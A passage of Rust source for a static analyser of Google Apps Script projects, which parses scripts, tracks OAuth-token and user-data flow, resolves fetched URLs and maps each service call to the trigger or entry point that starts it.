//! The Apps Script source analyser, on a real JavaScript parser (oxc): comments and strings are what
//! the parser says they are. Only facts leave: API, file, line, enclosing function, the argument
//! values that decide the rules, where fetched URLs go and what starts the code. Source text is not
//! kept.
//!
//! Three passes over the project's files, which share one global scope as Apps Script's do:
//! 1. declarations: top-level functions and their parameters, string values as their parts
//!    (`'https://' + LOCATION + '-aiplatform.googleapis.com'`, template literals, object-literal
//!    constants such as `CONFIG.BASE_URL`), aliases (`var f = UrlFetchApp.fetch`), and the arguments
//!    every call site passes to a top-level function;
//! 2. the user's OAuth token, followed from `ScriptApp.getOAuthToken()` through variables, objects and
//!    parameters;
//! 3. the calls on Google services and the sharing/sending methods, each with its arguments resolved
//!    (a parameter takes the values its callers pass), and the call graph.
//!
//! [`reach`] then says, for each call, which entry point starts it: installable triggers,
//! `doGet`/`doPost`, add-on triggers, simple triggers, a web app page's `google.script.run`, or a
//! person (menu items, buttons, sidebars, the editor).

use std::collections::{BTreeMap, BTreeSet, VecDeque};

use fnscope_snapshot::{Reach, ScriptCall, UrlFact};
use oxc_allocator::Allocator;
use oxc_ast::ast::{
    Argument, ArrayExpressionElement, ArrowFunctionExpression, AssignmentExpression,
    AssignmentTarget, BindingPattern, CallExpression, Expression, FormalParameters, Function,
    IdentifierReference, MethodDefinition, ObjectExpression, ObjectProperty, ObjectPropertyKind,
    PropertyKey, VariableDeclarator,
};
use oxc_ast_visit::Visit;
use oxc_parser::Parser;
use oxc_span::{GetSpan, SourceType};
use oxc_syntax::operator::{AssignmentOperator, BinaryOperator, LogicalOperator};

/// Reserved simple-trigger names (and the web app's entry points).
pub const SIMPLE_TRIGGERS: &[&str] = &[
    "onOpen",
    "onEdit",
    "onInstall",
    "onSelectionChange",
    "doGet",
    "doPost",
];

/// Services that read or change user data, and the scope each needs when the manifest names none.
const SERVICES: &[(&str, &str)] = &[
    ("GmailApp", "https://mail.google.com/"),
    ("Gmail", "https://mail.google.com/"),
    (
        "MailApp",
        "https://www.googleapis.com/auth/script.send_mail",
    ),
    ("DriveApp", "https://www.googleapis.com/auth/drive"),
    ("Drive", "https://www.googleapis.com/auth/drive"),
    (
        "SpreadsheetApp",
        "https://www.googleapis.com/auth/spreadsheets",
    ),
    ("DocumentApp", "https://www.googleapis.com/auth/documents"),
    ("FormApp", "https://www.googleapis.com/auth/forms"),
    ("CalendarApp", "https://www.googleapis.com/auth/calendar"),
    ("ContactsApp", "https://www.google.com/m8/feeds"),
    ("People", "https://www.googleapis.com/auth/contacts"),
    (
        "AdminDirectory",
        "https://www.googleapis.com/auth/admin.directory.user",
    ),
    (
        "UrlFetchApp",
        "https://www.googleapis.com/auth/script.external_request",
    ),
    (
        "ScriptApp",
        "https://www.googleapis.com/auth/script.scriptapp",
    ),
];

/// Services whose answers are the user's data: a value read from them is tainted.
const USER_DATA_SERVICES: &[&str] = &[
    "GmailApp",
    "Gmail",
    "MailApp",
    "DriveApp",
    "Drive",
    "SpreadsheetApp",
    "Sheets",
    "DocumentApp",
    "Docs",
    "SlidesApp",
    "Slides",
    "FormApp",
    "CalendarApp",
    "Calendar",
    "ContactsApp",
    "People",
    "AdminDirectory",
    "GroupsApp",
    "Tasks",
];

/// Other global services whose calls are kept.
const OTHER_GLOBALS: &[&str] = &[
    "ContentService",
    "HtmlService",
    "Session",
    "PropertiesService",
];

/// Methods on local values that share or send.
const METHODS: &[&str] = &[
    "*.setSharing",
    "*.addEditor",
    "*.addEditors",
    "*.addViewer",
    "*.addViewers",
    "*.addCommenter",
    "*.forward",
    "*.reply",
    "*.replyAll",
];

/// Array methods whose callback runs once per element (a loop).
const ITERATING: &[&str] = &[
    "forEach", "map", "filter", "some", "every", "reduce", "flatMap", "find",
];

/// An entry point found in the code.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Entry {
    pub function: String,
    /// As in [`Reach::kind`].
    pub kind: &'static str,
    /// How it was found: `menu item`, `ScriptApp.newTrigger`, …
    pub how: String,
}

/// What the analyser found in a project's files.
#[derive(Debug, Default)]
pub struct Facts {
    pub functions: BTreeSet<String>,
    pub services: BTreeSet<String>,
    pub calls: Vec<ScriptCall>,
    /// `file:line:column: message` of each file that does not parse.
    pub parse_errors: Vec<String>,
    /// Caller → the functions it calls or passes on (top-level functions and methods).
    pub graph: BTreeMap<String, BTreeSet<String>>,
    /// Entry points named in the code (menus, triggers it installs, `google.script.run`).
    pub entries: Vec<Entry>,
    /// Files read only after rewriting Rhino syntax (`for each (…)`).
    pub rhino_rewritten: Vec<String>,
}

impl Facts {
    pub fn simple_triggers(&self) -> Vec<String> {
        SIMPLE_TRIGGERS
            .iter()
            .filter(|t| self.functions.contains(**t))
            .map(|t| t.to_string())
            .collect()
    }

    /// The scopes the code needs, from the services it uses (Apps Script's own inference).
    pub fn inferred_scopes(&self) -> Vec<String> {
        let mut s: BTreeSet<String> = SERVICES
            .iter()
            .filter(|(svc, _)| self.services.contains(*svc))
            .map(|(_, scope)| scope.to_string())
            .collect();
        if self
            .calls
            .iter()
            .any(|c| c.api.starts_with("ScriptApp.newTrigger"))
        {
            s.insert("https://www.googleapis.com/auth/script.scriptapp".into());
        }
        s.into_iter().collect()
    }
}

/// A string value as written, before resolution.
#[derive(Debug, Clone)]
enum Sym {
    Lit(String),
    /// A variable or dotted constant (`CONFIG.BASE_URL`) as seen from `scope` (a top-level
    /// function, or empty for the global scope), read at source offset `at` (the definitions that
    /// reach it are chosen by position within a function).
    Var {
        scope: String,
        name: String,
        at: Option<u32>,
        /// The branches (if/else arms, loop bodies, cases, callbacks) it is read in.
        branch: Vec<u32>,
    },
    /// The `index`th parameter of top-level function `func`: whatever its callers pass.
    Param {
        func: String,
        index: usize,
    },
    /// A member (`url`, `headers.x`) of what callers pass as that parameter.
    ParamMember {
        func: String,
        index: usize,
        member: String,
    },
    /// What the top-level function or method `func` returns, called at its `site`th call site
    /// (whose arguments its parameters then take); `from`: the receiver and arguments, whose
    /// user data a function that is not the project's (`JSON.stringify`) passes on.
    Ret {
        func: String,
        site: Option<usize>,
        from: Vec<Vec<Sym>>,
    },
    /// A value computed from these (only whether it carries user data is known).
    Derived(Vec<Vec<Sym>>),
    /// A value read from a Google service that holds the user's data.
    Data,
    /// One of several values (`a ? b : c`, `a || b`).
    Alt(Vec<Vec<Sym>>),
    Unknown,
}

/// Where the token in an expression comes from: directly (`ScriptApp.getOAuthToken()` or a variable
/// holding it) and/or the enclosing function's parameters (by index) that callers pass it in.
#[derive(Debug, Default, Clone)]
struct Tok {
    direct: bool,
    params: BTreeSet<usize>,
}

impl Tok {
    fn any(&self) -> bool {
        self.direct || !self.params.is_empty()
    }
}

/// A resolved string: literal text and holes.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Part {
    Lit(String),
    Unknown,
    /// Unknown text that comes from the user's data (mail, files, sheets, …).
    Data,
}

/// The definition key that says a variable was given an object literal (not a valid JS name).
const OBJECT_MARK: &str = "{object}";
/// The definition key of what a function returns.
const RETURN: &str = "{return}";

/// Alternatives a resolution keeps at most; past it one unknown alternative stands for the rest.
const MAX_ALTERNATIVES: usize = 16;
/// How deep constants, parameters and nesting are followed.
const MAX_DEPTH: usize = 48;
const MAX_RESOLVE_DEPTH: usize = 12;

/// One definition of a name: where (source offset), in which branches, its value, and whether it
/// carries the user's token.
#[derive(Debug, Clone)]
struct Def {
    at: u32,
    /// The branches it is made in (see [`Sym::Var`]).
    branch: Vec<u32>,
    syms: Vec<Sym>,
    token: bool,
}

/// One argument at a call site: its string value, the members of an object literal written there,
/// and the variable or parameter it names (for members set elsewhere).
#[derive(Debug, Clone, Default)]
struct Arg {
    syms: Vec<Sym>,
    props: BTreeMap<String, Vec<Sym>>,
    named: Option<Sym>,
}

#[derive(Default)]
struct Bindings {
    /// Global aliases of services or methods (`var f = UrlFetchApp.fetch`).
    alias: BTreeMap<String, String>,
    /// (scope, name or dotted name) → the values assigned to it, in source order.
    defs: BTreeMap<(String, String), Vec<Def>>,
    /// (scope, name) → offsets where a member set on it carries the token (`o.headers = …`).
    token_members: BTreeMap<(String, String), Vec<u32>>,
    /// Top-level function → its parameter names.
    params: BTreeMap<String, Vec<String>>,
    /// Called name → the arguments of each call site.
    sites: BTreeMap<String, Vec<Vec<Arg>>>,
    /// (function, call site, argument index) where the caller passes the token.
    token_sites: BTreeSet<(String, usize, usize)>,
    /// Call sites seen so far in this pass, per called name (so pass 2 numbers them as pass 1).
    site_count: BTreeMap<String, usize>,
    /// (scope, name) of variables holding the token (or an object that carries it).
    token: BTreeSet<(String, String)>,
    /// (function, parameter index) some caller passes the token to.
    token_params: BTreeSet<(String, usize)>,
    functions: BTreeSet<String>,
    methods: BTreeSet<String>,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Pass {
    Declarations,
    Tokens,
    Record,
}

struct Walker<'s, 'b> {
    file: &'s str,
    lines: Vec<usize>,
    b: &'b mut Bindings,
    pass: Pass,
    /// The enclosing top-level function (or method), if any.
    function: Option<String>,
    /// Parameter names of nested functions, which hide the outer scope's names.
    shadow: Vec<BTreeSet<String>>,
    loops: usize,
    /// The branches (if/else arms, loop bodies, cases, `?:` and `&&`/`||` arms, catch clauses,
    /// callbacks) around the current node, by their offsets.
    branch: Vec<u32>,
    /// The source offset of the statement or call being read.
    pos: u32,
    facts: &'b mut Facts,
}

fn params_of(p: &FormalParameters<'_>) -> Vec<String> {
    p.items
        .iter()
        .map(|i| match &i.pattern {
            BindingPattern::BindingIdentifier(id) => id.name.to_string(),
            _ => String::new(),
        })
        .collect()
}

fn key_name(k: &PropertyKey<'_>) -> Option<String> {
    k.static_name().map(|n| n.to_string())
}

impl Walker<'_, '_> {
    fn line(&self, offset: u32) -> u32 {
        let i = self
            .lines
            .partition_point(|&start| start <= offset as usize);
        u32::try_from(i).unwrap_or(u32::MAX)
    }

    fn scope(&self) -> String {
        self.function.clone().unwrap_or_default()
    }

    fn shadowed(&self, name: &str) -> bool {
        self.shadow.iter().any(|s| s.contains(name))
    }

    /// The dotted name of an expression with aliases resolved (`*` for what has none).
    fn name(&self, e: &Expression<'_>, depth: usize) -> String {
        if depth > MAX_DEPTH {
            return "*".into();
        }
        match e {
            Expression::Identifier(id) => self
                .b
                .alias
                .get(id.name.as_str())
                .cloned()
                .unwrap_or_else(|| id.name.to_string()),
            Expression::StaticMemberExpression(m) => {
                format!("{}.{}", self.name(&m.object, depth + 1), m.property.name)
            }
            Expression::ComputedMemberExpression(m) => match &m.expression {
                Expression::StringLiteral(s) => {
                    format!("{}.{}", self.name(&m.object, depth + 1), s.value)
                }
                _ => format!("{}.*", self.name(&m.object, depth + 1)),
            },
            Expression::CallExpression(c) => format!("{}()", self.name(&c.callee, depth + 1)),
            Expression::ParenthesizedExpression(p) => self.name(&p.expression, depth + 1),
            _ => "*".into(),
        }
    }

    /// `a.b.c` of a chain of plain names, without alias resolution.
    fn dotted(e: &Expression<'_>, depth: usize) -> Option<String> {
        if depth > MAX_DEPTH {
            return None;
        }
        match e {
            Expression::Identifier(id) => Some(id.name.to_string()),
            Expression::ThisExpression(_) => Some("this".into()),
            Expression::StaticMemberExpression(m) => Some(format!(
                "{}.{}",
                Self::dotted(&m.object, depth + 1)?,
                m.property.name
            )),
            Expression::ComputedMemberExpression(m) => match &m.expression {
                Expression::StringLiteral(s) => Some(format!(
                    "{}.{}",
                    Self::dotted(&m.object, depth + 1)?,
                    s.value
                )),
                _ => None,
            },
            Expression::ParenthesizedExpression(p) => Self::dotted(&p.expression, depth + 1),
            _ => None,
        }
    }

    /// The function or method a call reaches (`f(…)`, `this.f(…)`, `obj.f(…)`, `f.call(this, …)`)
    /// and how many leading arguments it does not receive; `None` for calls on Google services.
    fn callee_name(c: &CallExpression<'_>) -> Option<(String, usize)> {
        match &c.callee {
            Expression::Identifier(id) => Some((id.name.to_string(), 0)),
            Expression::StaticMemberExpression(m)
                if m.property.name == "call"
                    && matches!(
                        &m.object,
                        Expression::Identifier(_) | Expression::StaticMemberExpression(_)
                    ) =>
            {
                Self::dotted(&m.object, 0)
                    .map(|d| (d.rsplit('.').next().unwrap_or(&d).to_string(), 1))
            }
            Expression::StaticMemberExpression(m) => {
                let root = Self::dotted(&m.object, 0).unwrap_or_default();
                let root = root.split('.').next().unwrap_or_default();
                let service =
                    SERVICES.iter().any(|(s, _)| *s == root) || OTHER_GLOBALS.contains(&root);
                (!service).then(|| (m.property.name.to_string(), 0))
            }
            _ => None,
        }
    }

    /// A name as seen from here: a parameter of the enclosing top-level function (or a member of
    /// one), `this.x` (one per project: methods share `this`), or a variable.
    fn var(&self, name: &str) -> Sym {
        let root = name.split('.').next().unwrap_or(name);
        if root == "this" {
            return Sym::Var {
                scope: String::new(),
                name: name.to_string(),
                at: None,
                branch: Vec::new(),
            };
        }
        if self.shadowed(root) {
            return Sym::Unknown;
        }
        if let Some(f) = &self.function
            && let Some(i) = self
                .b
                .params
                .get(f)
                .and_then(|ps| ps.iter().position(|p| p == root))
        {
            if root == name {
                return Sym::Param {
                    func: f.clone(),
                    index: i,
                };
            }
            return Sym::ParamMember {
                func: f.clone(),
                index: i,
                member: name[root.len() + 1..].to_string(),
            };
        }
        Sym::Var {
            scope: self.scope(),
            name: name.to_string(),
            at: self.function.is_some().then_some(self.pos),
            branch: self.branch.clone(),
        }
    }

    /// The definitions of `name` (seen from `scope`) that reach offset `at` in `branch`: within a
    /// function, the last one before it made in the same or an enclosing branch, and those made
    /// after that in other branches; outside a function (or for a global), all of them.
    fn reaching(&self, scope: &str, name: &str, at: Option<u32>, branch: &[u32]) -> Vec<&Def> {
        let local = (!scope.is_empty())
            .then(|| self.b.defs.get(&(scope.to_string(), name.to_string())))
            .flatten();
        let (list, ordered) = match local {
            Some(l) => (l, true),
            None => match self.b.defs.get(&(String::new(), name.to_string())) {
                Some(l) => (l, false),
                None => return Vec::new(),
            },
        };
        let Some(at) = at.filter(|_| ordered) else {
            return list.iter().collect();
        };
        let before: Vec<&Def> = list.iter().filter(|d| d.at < at).collect();
        if before.is_empty() {
            return list.iter().collect();
        }
        let dominating = before
            .iter()
            .filter(|d| branch.starts_with(&d.branch))
            .map(|d| d.at)
            .max();
        match dominating {
            Some(u) => before.into_iter().filter(|d| d.at >= u).collect(),
            None => before,
        }
    }

    /// The string an expression evaluates to, as parts.
    fn sym(&self, e: &Expression<'_>, depth: usize) -> Vec<Sym> {
        if depth > MAX_DEPTH {
            return vec![Sym::Unknown];
        }
        match e {
            Expression::StringLiteral(s) => vec![Sym::Lit(s.value.to_string())],
            Expression::NumericLiteral(n) => vec![Sym::Lit(n.value.to_string())],
            Expression::TemplateLiteral(t) => {
                let mut out = Vec::new();
                for (i, q) in t.quasis.iter().enumerate() {
                    let text = q.value.cooked.unwrap_or(q.value.raw);
                    if !text.is_empty() {
                        out.push(Sym::Lit(text.to_string()));
                    }
                    if let Some(x) = t.expressions.get(i) {
                        out.extend(self.sym(x, depth + 1));
                    }
                }
                out
            }
            Expression::BinaryExpression(b) if b.operator == BinaryOperator::Addition => {
                let mut out = self.sym(&b.left, depth + 1);
                out.extend(self.sym(&b.right, depth + 1));
                out
            }
            Expression::Identifier(id) => vec![self.var(id.name.as_str())],
            Expression::StaticMemberExpression(_) | Expression::ComputedMemberExpression(_) => {
                match Self::dotted(e, 0) {
                    Some(d) => vec![self.var(&d)],
                    None => vec![Sym::Unknown],
                }
            }
            Expression::ParenthesizedExpression(p) => self.sym(&p.expression, depth + 1),
            Expression::ConditionalExpression(c) => vec![Sym::Alt(vec![
                self.sym(&c.consequent, depth + 1),
                self.sym(&c.alternate, depth + 1),
            ])],
            // `f(…)`, `this.f(…)`, `obj.f(…)`: what `f` returns (resolved once all are read).
            Expression::CallExpression(c) => {
                let root = self.name(&c.callee, 0);
                let root = root.split(['.', '(']).next().unwrap_or_default();
                if USER_DATA_SERVICES.contains(&root) {
                    return vec![Sym::Data];
                }
                let mut from: Vec<Vec<Sym>> = c
                    .arguments
                    .iter()
                    .filter_map(Argument::as_expression)
                    .map(|a| self.sym(a, depth + 1))
                    .collect();
                if let Expression::StaticMemberExpression(m) = &c.callee {
                    from.push(self.sym(&m.object, depth + 1));
                }
                match Self::callee_name(c) {
                    Some((func, _)) => {
                        let site = self.b.site_count.get(&func).copied().unwrap_or(0);
                        vec![Sym::Ret {
                            func,
                            site: Some(site),
                            from,
                        }]
                    }
                    None => vec![Sym::Derived(from)],
                }
            }
            Expression::ArrayExpression(a) => vec![Sym::Derived(
                a.elements
                    .iter()
                    .filter_map(ArrayExpressionElement::as_expression)
                    .map(|x| self.sym(x, depth + 1))
                    .collect(),
            )],
            Expression::ObjectExpression(o) => vec![Sym::Derived(
                o.properties
                    .iter()
                    .map(|p| match p {
                        ObjectPropertyKind::ObjectProperty(p) => self.sym(&p.value, depth + 1),
                        ObjectPropertyKind::SpreadProperty(s) => self.sym(&s.argument, depth + 1),
                    })
                    .collect(),
            )],
            Expression::LogicalExpression(l)
                if matches!(l.operator, LogicalOperator::Or | LogicalOperator::Coalesce) =>
            {
                vec![Sym::Alt(vec![
                    self.sym(&l.left, depth + 1),
                    self.sym(&l.right, depth + 1),
                ])]
            }
            _ => vec![Sym::Unknown],
        }
    }

    /// Every value `syms` can take, each as parts (at most [`MAX_ALTERNATIVES`]). `bind`: the
    /// parameters of that function take only what that call site (by number) passes.
    fn resolve(
        &self,
        syms: &[Sym],
        depth: usize,
        visiting: &mut Vec<String>,
        bind: &[(String, usize)],
    ) -> Vec<Vec<Part>> {
        let mut acc: Vec<Vec<Part>> = vec![Vec::new()];
        for s in syms {
            let alts = self.alternatives(s, depth, visiting, bind);
            let mut next = Vec::new();
            let mut capped = false;
            'outer: for a in &acc {
                for b in &alts {
                    if next.len() >= MAX_ALTERNATIVES {
                        capped = true;
                        break 'outer;
                    }
                    let mut joined = a.clone();
                    for p in b {
                        push_part(&mut joined, p.clone());
                    }
                    next.push(joined);
                }
            }
            if capped {
                next.truncate(MAX_ALTERNATIVES - 1);
                next.push(vec![Part::Unknown]);
            }
            next.dedup();
            acc = next;
        }
        acc
    }

    /// The call sites of `func` to read: the bound one, or all.
    fn sites_of<'b>(&'b self, func: &str, bind: &[(String, usize)]) -> Vec<&'b Vec<Arg>> {
        let Some(all) = self.b.sites.get(func) else {
            return Vec::new();
        };
        match bind.iter().rev().find(|(f, _)| f == func) {
            Some((_, k)) if *k < all.len() => all.get(*k).into_iter().collect(),
            _ => all.iter().take(4 * MAX_ALTERNATIVES).collect(),
        }
    }

    fn alternatives(
        &self,
        s: &Sym,
        depth: usize,
        visiting: &mut Vec<String>,
        bind: &[(String, usize)],
    ) -> Vec<Vec<Part>> {
        if depth > MAX_RESOLVE_DEPTH {
            return unknown_parts();
        }
        match s {
            Sym::Lit(t) => vec![vec![Part::Lit(t.clone())]],
            Sym::Unknown => unknown_parts(),
            Sym::Var { .. } => self.var_alternatives(s, depth, visiting, bind),
            Sym::Param { func, index } => {
                self.param_alternatives(func, *index, depth, visiting, bind)
            }
            Sym::ParamMember {
                func,
                index,
                member,
            } => self.param_member_alternatives(func, *index, member, depth, visiting, bind),
            Sym::Alt(list) => {
                let mut out = Vec::new();
                for l in list {
                    out.extend(self.resolve(l, depth + 1, visiting, bind));
                }
                dedup_capped(out)
            }
            Sym::Data => vec![vec![Part::Data]],
            Sym::Derived(list) => {
                let tainted = list.iter().any(|l| {
                    self.resolve(l, depth + 1, visiting, bind)
                        .iter()
                        .any(|v| v.contains(&Part::Data))
                });
                vec![vec![if tainted { Part::Data } else { Part::Unknown }]]
            }
            Sym::Ret {
                func: f,
                site,
                from,
            } => self.ret_alternatives(f, *site, from, depth, visiting, bind),
        }
    }

    /// A variable: what its definitions reaching this point can hold.
    fn var_alternatives(
        &self,
        var: &Sym,
        depth: usize,
        visiting: &mut Vec<String>,
        bind: &[(String, usize)],
    ) -> Vec<Vec<Part>> {
        let Sym::Var {
            scope,
            name,
            at,
            branch,
        } = var
        else {
            return unknown_parts();
        };
        let (at, branch) = (*at, branch.as_slice());
        let defs = self.reaching(scope, name, at, branch);
        if defs.is_empty() {
            // `data.values`, `rows.length`: as tainted as what it is read from.
            if let Some((root, _)) = name.rsplit_once('.') {
                let from = vec![vec![Sym::Var {
                    scope: scope.to_string(),
                    name: root.to_string(),
                    at,
                    branch: branch.to_vec(),
                }]];
                return self.alternatives(&Sym::Derived(from), depth + 1, visiting, bind);
            }
            return unknown_parts();
        }
        let mark = format!("{scope}\u{0}{name}\u{0}{at:?}");
        if visiting.contains(&mark) {
            return unknown_parts();
        }
        visiting.push(mark);
        let mut out = Vec::new();
        for d in defs.iter().take(MAX_ALTERNATIVES) {
            out.extend(self.resolve(&d.syms, depth + 1, visiting, bind));
        }
        visiting.pop();
        dedup_capped(out)
    }

    /// A parameter: what its call sites pass.
    fn param_alternatives(
        &self,
        func: &str,
        index: usize,
        depth: usize,
        visiting: &mut Vec<String>,
        bind: &[(String, usize)],
    ) -> Vec<Vec<Part>> {
        let sites = self.sites_of(func, bind);
        if sites.is_empty() {
            return unknown_parts();
        }
        let mark = format!("{func}\u{0}#{index}");
        if visiting.contains(&mark) {
            return unknown_parts();
        }
        visiting.push(mark);
        let mut out = Vec::new();
        for args in sites {
            match args.get(index) {
                Some(a) => out.extend(self.resolve(&a.syms, depth + 1, visiting, bind)),
                None => out.push(vec![Part::Unknown]),
            }
        }
        visiting.pop();
        dedup_capped(out)
    }

    /// A member of a parameter: that member of what the call sites pass.
    fn param_member_alternatives(
        &self,
        func: &str,
        index: usize,
        member: &str,
        depth: usize,
        visiting: &mut Vec<String>,
        bind: &[(String, usize)],
    ) -> Vec<Vec<Part>> {
        let sites = self.sites_of(func, bind);
        if sites.is_empty() {
            return unknown_parts();
        }
        let mark = format!("{func}\u{0}#{index}.{member}");
        if visiting.contains(&mark) {
            return unknown_parts();
        }
        visiting.push(mark);
        let mut out = Vec::new();
        for args in sites {
            let from = match args.get(index) {
                Some(a) => match (a.props.get(member), &a.named) {
                    (Some(v), _) => v.clone(),
                    (
                        None,
                        Some(Sym::Var {
                            scope,
                            name,
                            at,
                            branch,
                        }),
                    ) => vec![Sym::Var {
                        scope: scope.clone(),
                        name: format!("{name}.{member}"),
                        at: *at,
                        branch: branch.clone(),
                    }],
                    (None, Some(Sym::Param { func, index })) => vec![Sym::ParamMember {
                        func: func.to_string(),
                        index: *index,
                        member: member.to_string(),
                    }],
                    _ => vec![Sym::Unknown],
                },
                None => vec![Sym::Unknown],
            };
            out.extend(self.resolve(&from, depth + 1, visiting, bind));
        }
        visiting.pop();
        dedup_capped(out)
    }

    /// A helper's return value at one call: what its returns hold with this call's arguments bound.
    fn ret_alternatives(
        &self,
        f: &str,
        site: Option<usize>,
        from: &[Vec<Sym>],
        depth: usize,
        visiting: &mut Vec<String>,
        bind: &[(String, usize)],
    ) -> Vec<Vec<Part>> {
        let known = self.b.functions.contains(f) || self.b.methods.contains(f);
        if !known {
            return self.alternatives(&Sym::Derived(from.to_vec()), depth + 1, visiting, bind);
        }
        // Its parameters take what this call passes.
        let mut bound = bind.to_vec();
        if let Some(k) = site {
            bound.push((f.to_string(), k));
        }
        let bind = bound.as_slice();
        let Some(defs) = self.b.defs.get(&(f.to_string(), RETURN.to_string())) else {
            return unknown_parts();
        };
        let mark = format!("{f}\u{0}{RETURN}");
        if !known || visiting.contains(&mark) {
            return unknown_parts();
        }
        visiting.push(mark);
        let mut out = Vec::new();
        for d in defs.iter().take(MAX_ALTERNATIVES) {
            out.extend(self.resolve(&d.syms, depth + 1, visiting, bind));
        }
        visiting.pop();
        dedup_capped(out)
    }

    fn values(&self, e: &Expression<'_>) -> Vec<Vec<Part>> {
        let syms = self.sym(e, 0);
        self.resolve(&syms, 0, &mut Vec::new(), &[])
    }

    /// The literal beginnings of every value an expression can take.
    fn strings(&self, e: &Expression<'_>) -> Vec<String> {
        let mut out: Vec<String> = self
            .values(e)
            .iter()
            .filter_map(|v| match v.first() {
                Some(Part::Lit(s)) => Some(s.clone()),
                _ => None,
            })
            .collect();
        out.dedup();
        out
    }

    /// Whether `name` holds the token here: a variable marked in pass 2 (`Some(None)`), or the
    /// `i`th parameter of the enclosing function that some caller passes it to (`Some(Some(i))`).
    fn token_source(&self, name: &str) -> Option<Option<usize>> {
        let root = name.split('.').next().unwrap_or(name);
        if self.shadowed(root) {
            return None;
        }
        if let Some(f) = &self.function {
            if let Some(i) = self
                .b
                .params
                .get(f)
                .and_then(|ps| ps.iter().position(|p| p == root))
            {
                return self
                    .b
                    .token_params
                    .contains(&(f.clone(), i))
                    .then_some(Some(i));
            }
            if self.b.token.contains(&(f.clone(), name.to_string())) {
                return Some(None);
            }
        }
        let scope = self.scope();
        let at = self.function.is_some().then_some(self.pos);
        let by_def = self
            .reaching(&scope, name, at, &self.branch)
            .iter()
            .any(|d| d.token);
        let by_member = self
            .b
            .token_members
            .get(&(scope.clone(), root.to_string()))
            .or_else(|| self.b.token_members.get(&(String::new(), root.to_string())))
            .is_some_and(|l| l.iter().any(|p| at.is_none_or(|a| *p < a)));
        (by_def || by_member || self.b.token.contains(&(String::new(), name.to_string())))
            .then_some(None)
    }

    fn note_token(&self, name: &str, token: &mut Tok) {
        match self.token_source(name) {
            Some(None) => token.direct = true,
            Some(Some(i)) => {
                token.params.insert(i);
            }
            None => {}
        }
    }

    /// Literals, dotted references and token use anywhere inside an argument.
    fn scan(
        &self,
        e: &Expression<'_>,
        lits: &mut Vec<String>,
        refs: &mut Vec<String>,
        token: &mut Tok,
        depth: usize,
    ) {
        if depth > MAX_DEPTH {
            return;
        }
        for s in self.strings(e) {
            if !lits.contains(&s) {
                lits.push(s);
            }
        }
        match e {
            Expression::Identifier(id) => self.note_token(id.name.as_str(), token),
            Expression::StaticMemberExpression(m) => {
                let n = self.name(e, depth);
                if !n.starts_with('*') {
                    refs.push(n);
                }
                // `this.headers` is marked whole; `opts.headers` through `opts`.
                if let Some(full) = Self::dotted(e, 0) {
                    if full.starts_with("this.") {
                        self.note_token(&full, token);
                    } else if let Some(root) = Self::dotted(&m.object, 0) {
                        self.note_token(root.split('.').next().unwrap_or(&root), token);
                    }
                }
            }
            Expression::ComputedMemberExpression(_) => {
                let n = self.name(e, depth);
                if !n.starts_with('*') {
                    refs.push(n);
                }
            }
            Expression::CallExpression(c) => {
                if self.name(&c.callee, depth) == "ScriptApp.getOAuthToken" {
                    token.direct = true;
                }
                if let Expression::StaticMemberExpression(m) = &c.callee {
                    self.scan(&m.object, &mut Vec::new(), refs, token, depth + 1);
                }
                for a in &c.arguments {
                    if let Some(x) = a.as_expression() {
                        self.scan(x, lits, refs, token, depth + 1);
                    }
                }
            }
            Expression::ObjectExpression(o) => {
                for p in &o.properties {
                    match p {
                        ObjectPropertyKind::ObjectProperty(p) => {
                            self.scan(&p.value, lits, refs, token, depth + 1)
                        }
                        ObjectPropertyKind::SpreadProperty(s) => {
                            self.scan(&s.argument, lits, refs, token, depth + 1)
                        }
                    }
                }
            }
            // What a callback returns (`list.map(x => ({headers: h}))`).
            Expression::ArrowFunctionExpression(f) => {
                for e in returned(&f.body.statements, f.expression) {
                    self.scan(e, &mut Vec::new(), refs, token, depth + 1);
                }
            }
            Expression::FunctionExpression(f) => {
                if let Some(body) = &f.body {
                    for e in returned(&body.statements, false) {
                        self.scan(e, &mut Vec::new(), refs, token, depth + 1);
                    }
                }
            }
            Expression::ArrayExpression(a) => {
                for el in &a.elements {
                    if let Some(x) = el.as_expression() {
                        self.scan(x, lits, refs, token, depth + 1);
                    } else if let ArrayExpressionElement::SpreadElement(s) = el {
                        self.scan(&s.argument, lits, refs, token, depth + 1);
                    }
                }
            }
            Expression::BinaryExpression(b) => {
                self.scan(&b.left, &mut Vec::new(), refs, token, depth + 1);
                self.scan(&b.right, &mut Vec::new(), refs, token, depth + 1);
            }
            Expression::LogicalExpression(b) => {
                self.scan(&b.left, &mut Vec::new(), refs, token, depth + 1);
                self.scan(&b.right, &mut Vec::new(), refs, token, depth + 1);
            }
            Expression::ConditionalExpression(c) => {
                self.scan(&c.consequent, &mut Vec::new(), refs, token, depth + 1);
                self.scan(&c.alternate, &mut Vec::new(), refs, token, depth + 1);
            }
            Expression::TemplateLiteral(t) => {
                for x in &t.expressions {
                    self.scan(x, &mut Vec::new(), refs, token, depth + 1);
                }
            }
            Expression::ParenthesizedExpression(p) => {
                self.scan(&p.expression, &mut Vec::new(), refs, token, depth + 1)
            }
            _ => {}
        }
    }

    fn carries_token(&self, e: &Expression<'_>) -> bool {
        let mut t = Tok::default();
        self.scan(e, &mut Vec::new(), &mut Vec::new(), &mut t, 0);
        t.any()
    }

    fn note_service(&mut self, api: &str) {
        let root = api.split(['.', '(']).next().unwrap_or_default();
        if SERVICES.iter().any(|(s, _)| *s == root) {
            self.facts.services.insert(root.to_string());
        }
    }

    /// A call-site argument as the callee's parameter sees it.
    fn arg(&self, e: &Expression<'_>) -> Arg {
        let mut a = Arg {
            syms: self.sym(e, 0),
            ..Arg::default()
        };
        match e {
            Expression::ObjectExpression(o) => self.object_props("", o, &mut a.props, 0),
            Expression::Identifier(_)
            | Expression::StaticMemberExpression(_)
            | Expression::ThisExpression(_) => {
                if let Some(d) = Self::dotted(e, 0) {
                    a.named = Some(self.var(&d));
                }
            }
            _ => {}
        }
        a
    }

    /// An object literal's members as dotted keys (`headers.Authorization`).
    fn object_props(
        &self,
        prefix: &str,
        o: &ObjectExpression<'_>,
        out: &mut BTreeMap<String, Vec<Sym>>,
        depth: usize,
    ) {
        if depth > 8 {
            return;
        }
        for p in &o.properties {
            let ObjectPropertyKind::ObjectProperty(p) = p else {
                continue;
            };
            let Some(k) = key_name(&p.key) else {
                continue;
            };
            let key = if prefix.is_empty() {
                k
            } else {
                format!("{prefix}.{k}")
            };
